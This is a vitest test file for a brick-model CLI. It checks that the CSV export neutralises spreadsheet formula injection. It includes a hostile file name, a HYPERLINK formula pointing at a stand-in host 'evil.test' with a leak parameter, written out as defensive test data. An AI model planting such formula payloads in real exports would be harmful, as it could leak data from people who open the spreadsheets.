import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.ts';
import { csvField } from '../../src/export/pieceCsv.ts';

const BRICKS = '1 4 0 0 0 1 0 0 0 1 0 0 0 1 3001.dat\n1 1 0 -24 0 1 0 0 0 1 0 0 0 1 3001.dat\n';
const HOSTILE = '=HYPERLINK("evil.test?leak=1","click me").ldr';

async function run(args: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(args, (s) => out.push(s), (s) => err.push(s));
  return { code, out: out.join('\n'), err: err.join('\n') };
}

/** The cells of one CSV line (RFC 4180), as a spreadsheet reads them. */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
    out.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replace(/""/g, '"') : m[1]!);
  }
  return out;
}

describe('csvField', () => {
  it('neutralises text a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvField(`${start}1+1`).replace(/^"|"$/g, '')).toBe(`'${start}1+1`);
    expect(csvField('=SUM(A1,A2)')).toBe(`"'=SUM(A1,A2)"`);
    expect(csvField('minifig.ldr')).toBe('minifig.ldr');
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
  });

  it('writes numbers as they are, negative ones too', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(2.5)).toBe('2.5');
  });
});

describe('brickstats analyze --format csv with a hostile file name', () => {
  it('keeps the name readable, as text, for one file and for a folder', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'csv-'));
    mkdirSync(join(dir, 'models'));
    writeFileSync(join(dir, 'models', HOSTILE), BRICKS);
    writeFileSync(join(dir, 'models', '-minus.ldr'), BRICKS);
    const one = await run(['analyze', join(dir, 'models', HOSTILE), '--format', 'csv']);
    expect(one.code, one.err).toBe(0);
    expect(cells(one.out.split('\n')[1]!)[0]).toBe(`'${HOSTILE}`);

    const all = await run(['analyze', join(dir, 'models'), '--format', 'csv']);
    expect(all.code, all.err).toBe(0);
    const rows = all.out.split('\n').slice(1).map(cells);
    expect(rows.map((r) => r[0]).sort()).toEqual([`'-minus.ldr`, `'${HOSTILE}`]);
    // The numbers stay numbers.
    for (const row of rows) expect(row[2]).toMatch(/^\d+$/);
  });
});
